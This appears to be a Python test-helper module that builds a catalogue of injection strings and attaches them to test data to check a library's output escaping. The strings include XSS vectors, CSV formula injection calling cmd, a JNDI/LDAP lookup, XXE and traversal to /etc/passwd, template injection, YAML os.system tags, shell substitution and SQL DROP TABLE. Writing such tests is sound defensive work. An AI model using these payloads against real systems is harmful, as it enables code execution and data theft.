"""Texts that try to run, to load, to break out, or to be taken for a pattern.

Each kind has its own text, so that what comes through can be named. A payload that runs would raise
a dialog, ask the network for `contoh.invalid`, or add to `window.kena`.
"""

import hashlib
from collections.abc import Sequence

from kinerja_lib.i18n import clean_text

FIRE = "window.kena=(window.kena||0)+1;alert(1)"
PAYLOADS = {
    "gambar": f'<img src=x onerror="{FIRE}">',
    "skrip": f"<script>{FIRE}</script>",
    "atribut": f"\"'><b onmouseover='{FIRE}' style='position:fixed;inset:0'>",
    "svg": f"<svg onload={FIRE}><script>{FIRE}</script></svg>",
    "bingkai": f'<iframe srcdoc="<script>parent.{FIRE}</script>"></iframe>',
    "muat": "<link rel=stylesheet href=https://contoh.invalid/a.css>",
    "alih": '<meta http-equiv=refresh content="0;url=https://contoh.invalid/b">',
    "dasar": "<base href=https://contoh.invalid/><form action=//contoh.invalid>",
    "mermaid": f'```mermaid graph TD; A["<img src=x onerror={FIRE}>"] ```',
    "tautan": f"[klik](javascript:{FIRE})",
    "tautan luar": "<https://contoh.invalid/c> [x](//contoh.invalid/d)",
    "gambar markdown": "![x](https://contoh.invalid/e.png)",
    "lampiran": "![x](attachment:../../../x.png)",
    "jalur": "../../../../etc/passwd",
    "jinja": "{{7*7}}{% raw %}{{ self.__init__.__globals__ }}",
    "format": "{name} {0.__class__.__mro__} {n:>999999999}",
    "persen": "%s %(x)s %d 100%",
    "tebal": "**tebal** ** `kode` _miring_ # judul",
    "tutup skrip": "</script></style></svg></title></textarea></td></table>-->",
    "cdata": "]]> <![CDATA[ <!-- <?xml ?>",
    "baris": "atas\u2028bawah\u2029\x85akhir",
    "arah": "\u202etxt.exe\u2066\u200b\u00ad",
    "kendali": "a\x00b\x07c\x1b[31md",
    "css": f"expression({FIRE}) url(https://contoh.invalid/f) }} * {{ color: red",
    "rumus": "=cmd|' /C calc'!A0",
    "tambah": "+1+1",
    "kurang": "-2-2",
    "fungsi": "@SUM(1+1)",
    "tautan rumus": '=HYPERLINK("https://contoh.invalid/g";"x")',
    "entitas": "&lt;script&gt; &amp;copy; &#x3C;b&#x3E; & < > \" ' `",
    "lari": "\\x00 \\u003cscript\\u003e \\n",
    "jndi": "${jndi:ldap://contoh.invalid/h}",
    "latex": "\\input{/etc/passwd} \\href{javascript:alert(1)}{x}",
    "mathtext": "$\\frac{x}{0}$ $$x_1^{2 $\\undefined",
    "garis bawah": "_nolegend_",
    "panjang": "Kata" * 60,
    "kombinasi": "Z\u0363\u0364\u0365" + "\u0301" * 40,
    "gaya": "</style><style>@import '//contoh.invalid/i.css';*{background:url(//contoh.invalid/j)}",
    "css lepas": '"; } @page { content: url(//contoh.invalid/k) } } /*',
    "css akhir": "akhir\\",
    "mathml": f'<math><mtext><mglyph><style><!--</style><img title="--><img src onerror={FIRE}>">',
    "tanpa skrip": f'<noscript><p title="</noscript><img src=x onerror={FIRE}>">',
    "animasi": f"<svg><a><animate attributeName=href values=javascript:{FIRE} /><text>x</text></a>",
    "pakai": "<svg><use href='//contoh.invalid/l.svg#a'/><image href=//contoh.invalid/m></svg>",
    "komentar": f"<!--> <img src=x onerror={FIRE}> --!> -->",
    "rilis": "<!--/rilis:kotak--><!--rilis:catatan-->x<!--/rilis:catatan-->",
    "jenis": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;',
    "fokus": f'" autofocus tabindex=0 onfocus={FIRE} x="',
    "buka": f"<details open ontoggle={FIRE}><video src=x onerror={FIRE}>",
    "objek": "<object data=//contoh.invalid/o><embed src=//contoh.invalid/p>",
    "tautan data": "[a](vbscript:x) [b](data:text/html,<script>1</script>) <javascript:alert(1)>",
    "rumus markdown": "$\\text{<img src=x onerror=alert(1)>}$ \\(\\href{javascript:alert(1)}{x}\\)",
    "diagram": "%%{init: {'securityLevel':'loose'}}%% click A href \"javascript:alert(1)\"",
    "dolar": "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('alert(1)')()}}",
    "kurung": "{} {0} {n} {name!r:>{width}} {{}} }{ {%- include '/etc/passwd' -%}",
    "lebar penuh": "\uff1d1+1",
    "lebar penuh tambah": "\uff0b1",
    "titik koma": "x;=cmd|' /C calc'!A0;+1;@A1",
    "tak terlihat": "a\u034f\u115f\u180e\u3164\uffa0\ufff9\ufe0f\U000e0041\U000e007fb",
    "pribadi": "a\ue010asing\ue011",
    "cangkang": "$(touch x) `touch x` ; touch x | & > x",
    "yaml": "&a [*a, *a] !!python/name:os.system # x",
    "sql": "'; DROP TABLE x; -- \"; COPY (SELECT 1) TO 'x.csv'; --",
    "kepala": "x\r\nBcc: a@contoh.invalid\r\nContent-Type: text/html",
    "perangkat": "..\\..\\con ~/nul.html",
    "lambang": "\U0001f469\u200d\U0001f4bb \u05d0\u05d1 \u0627\u0644 \uff1cscript\uff1e \ufdd0",
}
# What works only where a text begins with it.
FRONT = (
    *("rumus", "tambah", "kurang", "fungsi", "tautan rumus", "garis bawah", "tebal"),
    *("lebar penuh", "lebar penuh tambah"),
)


# What a params file may hold: one line, nothing hidden, and short enough for a name.
PRINTABLE = tuple(
    name
    for name, text in PAYLOADS.items()
    if text == clean_text(text) and text.isprintable() and len(text) < 70
)


def kind_of(text: str, names: Sequence[str] = tuple(PAYLOADS)) -> str:
    """Choose the payload of a text: the same text has the same one in every table."""
    return names[int.from_bytes(hashlib.sha256(text.encode()).digest()[:4]) % len(names)]


def poison(text: str, kind: str = "") -> str:
    """Put a payload to a text, so that different texts stay different and equal ones equal."""
    kind = kind or kind_of(text)
    payload = PAYLOADS[kind]
    return f"{payload} {text}" if kind in FRONT else f"{text} {payload}"


def poison_some(text: str) -> str:
    """Put a payload to two texts in three, so that what belongs to plain names still appears."""
    plain = not text or text.isdecimal() or hashlib.sha256(text.encode()).digest()[5] % 3 == 0
    return text if plain else poison(text)
